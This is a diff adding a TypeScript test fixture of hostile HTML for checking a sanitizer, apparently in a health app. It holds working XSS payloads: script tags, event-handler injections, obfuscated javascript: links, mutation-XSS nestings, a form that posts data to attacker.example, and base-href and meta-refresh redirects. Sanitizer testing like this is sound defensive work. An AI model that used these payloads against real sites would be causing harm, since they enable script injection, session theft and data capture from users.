@@ -1,0 +1,32 @@
+/** Markup that must not run, be fetched or be shown; each sample that got through would leave its name in `window.hostile`. */
+const ran = (name: string) => `(window.hostile=window.hostile||[]).push('${name}')`;
+const elsewhere = 'https://attacker.example';
+
+export const hostileHtml = [
+  '<h1>What stays</h1><p id="p" class="fixed" style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">Text without its style.</p>',
+  `<script>${ran('script')}</script><script src="${elsewhere}/a.js"></script>`,
+  `<img src="/missing.png" alt="A picture that is not there" onerror="${ran('onerror')}">`,
+  `<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="Picture as data">`,
+  `<img src="http://attacker.example/plain.png" alt="Picture without encryption">`,
+  `<img src="${elsewhere}/pixel.png" alt="Picture from elsewhere">`,
+  `<img srcset="${elsewhere}/srcset.png 1x" alt="Picture from a set">`,
+  `<p><a href="javascript:${ran('link')}">Script link</a>, <a href=" &#106;ava&#115;cript&colon;alert(1)">hidden script link</a>, `,
+  `<a href="${elsewhere}/login">foreign link</a>, <a href="//attacker.example/">foreign link without scheme</a>, `,
+  `<a href="https://health-app.example@attacker.example/">foreign link in disguise</a>, `,
+  `<a href="https://health-app.example:444/">unusual port</a>, <a href="#p">place in the text</a>, `,
+  '<a href="https://health-app.example/help" target="_top">our site</a>, <a href="/__kit?from=text">our app</a>.</p>',
+  `<style>@import "${elsewhere}/a.css"; body{display:none}</style><link rel="stylesheet" href="${elsewhere}/b.css">`,
+  `<iframe src="${elsewhere}/frame" srcdoc="<script>parent.hostile=['srcdoc']</script>"></iframe>`,
+  `<object data="${elsewhere}/object"></object><embed src="${elsewhere}/embed">`,
+  `<video src="${elsewhere}/v.mp4" autoplay onplay="${ran('video')}"></video><audio src="${elsewhere}/a.mp3"></audio>`,
+  `<svg onload="${ran('svg')}"><a href="javascript:alert(1)"><text>Drawn link</text></a><image href="${elsewhere}/i.png"/></svg>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ran('mathml')}&gt;">`,
+  '--></style></mglyph></table></mtext></math>',
+  `<svg></p><style><a id="</style><img src=1 onerror=${ran('svg style')}>"></svg>`,
+  `<noscript><p title="</noscript><img src=x onerror=${ran('noscript')}>"></p></noscript>`,
+  `<form id="outer"><div></form><form id="inner"><input name="attributes" onfocus="${ran('focus')}" autofocus><button>Give me your number</button></form>`,
+  `<form action="${elsewhere}/collect"><input name="nodeName"><select><option>Choice</option></select></form>`,
+  `<template><img src="${elsewhere}/template.png"></template><xmp><img src=x onerror=${ran('xmp')}></xmp>`,
+  `<base href="${elsewhere}/"><meta http-equiv="refresh" content="0;url=${elsewhere}/">`,
+  `<details open ontoggle="${ran('toggle')}">Details</details><p onmouseover="${ran('hover')}">Last words stay.</p>`,
+].join('\n');
